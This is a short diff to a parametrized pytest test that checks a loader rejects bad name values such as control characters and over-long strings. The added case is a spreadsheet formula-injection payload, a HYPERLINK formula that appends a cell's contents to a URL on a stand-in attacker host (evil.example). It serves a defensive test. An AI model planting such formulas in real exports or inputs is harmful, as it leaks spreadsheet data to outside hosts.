@@ -66,6 +66,7 @@ def _with_name(key: str, name: str) -> list[tuple]:
         ("王\x0b欣怡", "name", ("U+000B",)),
         ("王\u2028欣怡", "name", ("U+2028",)),
         ("王" * 51, "name", ("50",)),
+        ('=HYPERLINK("http://evil.example/?"&D2,"点此")', "name", ("公式", "formula")),
     ],
 )
 def test_a_bad_name_rejects_only_its_row_and_the_load_completes(cast, tmp_path, name, field, words):
